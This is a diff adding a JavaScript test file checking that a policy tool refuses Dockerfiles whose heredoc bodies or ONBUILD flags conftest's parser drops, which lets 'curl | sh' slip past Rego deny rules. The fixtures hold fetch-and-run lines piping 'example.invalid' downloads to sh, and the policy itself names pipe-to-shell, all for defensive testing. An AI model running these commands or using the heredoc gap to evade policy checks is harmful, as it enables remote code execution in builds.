@@ -1,0 +1,54 @@
+// Issue 14, sixteenth pass (inputs: conftest's formats parsed by the Go toolchain under WASI).
+// Each hole is compared with conftest 0.71.1 (.toolchain/bin/conftest).
+//
+// - A Dockerfile heredoc's body is not in conftest's document: `RUN <<EOF` / `curl ... | sh` /
+//   `EOF` reaches the policy as Value ["<<EOF"], so a policy denying `curl | sh` ALLOWed (as
+//   conftest does). The same for an ONBUILD instruction's own flags (`ONBUILD COPY
+//   --from=evil /x /y` keeps only the paths). What the parser reads and leaves out is what no
+//   policy can deny on: the file is refused naming the line (tools/wasm/dockerdrops.go), as the
+//   INI, XML, jsonc, EDN ... files that hide keys already are.
+
+import { test } from "uvu";
+import * as assert from "uvu/assert";
+import { failLinesOf, gatehouse, withRepo } from "./harness.js";
+
+const DOCKER_POLICY = [
+  "package main",
+  "import rego.v1",
+  'deny contains "pipes to a shell" if { some i; input[i].Cmd == "run"; contains(concat(" ", input[i].Value), "| sh") }',
+  'deny contains "copies from another image" if { some i; input[i].Cmd in {"copy", "onbuild"}; some f in input[i].Flags; startswith(f, "--from=") }',
+  "",
+].join("\n");
+
+test("issue 14 (sixteenth pass): a Dockerfile whose heredoc body or ONBUILD flags conftest's parser drops is refused naming the line (the policy saw RUN [\"<<EOF\"] and COPY [\"/x\", \"/y\"]: ALLOW where the build runs curl | sh); the same commands inline, or a quoted <<, are judged", () => {
+  withRepo(
+    "rt16-dockerfile-hidden",
+    {
+      "policy/p.rego": DOCKER_POLICY,
+      "run/Dockerfile": "FROM alpine\nRUN <<EOF\ncurl -s http://example.invalid/x | sh\nEOF\n",
+      "chomp/Dockerfile": "FROM alpine\nRUN <<-EOT bash\n\tcurl -s http://example.invalid/x | sh\n\tEOT\n",
+      "copy/Dockerfile": "FROM alpine\nCOPY <<EOF /etc/profile.d/x.sh\ncurl -s http://example.invalid/x | sh\nEOF\n",
+      "onbuild-heredoc/Dockerfile": "FROM alpine\nONBUILD RUN <<EOF\ncurl -s http://example.invalid/x | sh\nEOF\n",
+      "onbuild-flags/Dockerfile": "FROM alpine\nONBUILD COPY --from=example.invalid/evil:latest /x /y\n",
+      "inline/Dockerfile": "FROM alpine\nRUN curl -s http://example.invalid/x | sh\nCOPY --from=example.invalid/evil:latest /x /y\n",
+      "quoted/Dockerfile": 'FROM alpine\nRUN echo "a <<b"\nONBUILD RUN echo hi\n',
+    },
+    (dir) => {
+      const r = gatehouse(["check", "run/Dockerfile", "chomp/Dockerfile", "copy/Dockerfile", "onbuild-heredoc/Dockerfile", "onbuild-flags/Dockerfile", "inline/Dockerfile"], dir);
+      assert.is(r.code, 1, r.stdout + r.stderr);
+      assert.equal(failLinesOf(r.stdout), [
+        "FAIL chomp/Dockerfile [input/unparsable] dockerfile: line 2: the body of the heredoc <<EOT of RUN is not in conftest's Dockerfile document (only the line naming it is), so no policy can judge what it runs or writes; write it inline or in a file the build copies",
+        "FAIL copy/Dockerfile [input/unparsable] dockerfile: line 2: the body of the heredoc <<EOF of COPY is not in conftest's Dockerfile document (only the line naming it is), so no policy can judge what it runs or writes; write it inline or in a file the build copies",
+        "FAIL inline/Dockerfile [main.deny] copies from another image",
+        "FAIL inline/Dockerfile [main.deny] pipes to a shell",
+        "FAIL onbuild-flags/Dockerfile [input/unparsable] dockerfile: line 2: the flags of ONBUILD COPY (--from=example.invalid/evil:latest) are not in conftest's Dockerfile document, so no policy can judge them; write the instruction without ONBUILD, or without the flags",
+        "FAIL onbuild-heredoc/Dockerfile [input/unparsable] dockerfile: line 2: the body of the heredoc <<EOF of ONBUILD is not in conftest's Dockerfile document (only the line naming it is), so no policy can judge what it runs or writes; write it inline or in a file the build copies",
+        "FAIL run/Dockerfile [input/unparsable] dockerfile: line 2: the body of the heredoc <<EOF of RUN is not in conftest's Dockerfile document (only the line naming it is), so no policy can judge what it runs or writes; write it inline or in a file the build copies",
+      ]);
+      const quoted = gatehouse(["check", "quoted/Dockerfile"], dir);
+      assert.is(quoted.code, 0, quoted.stdout + quoted.stderr);
+    },
+  );
+});
+
+test.run();
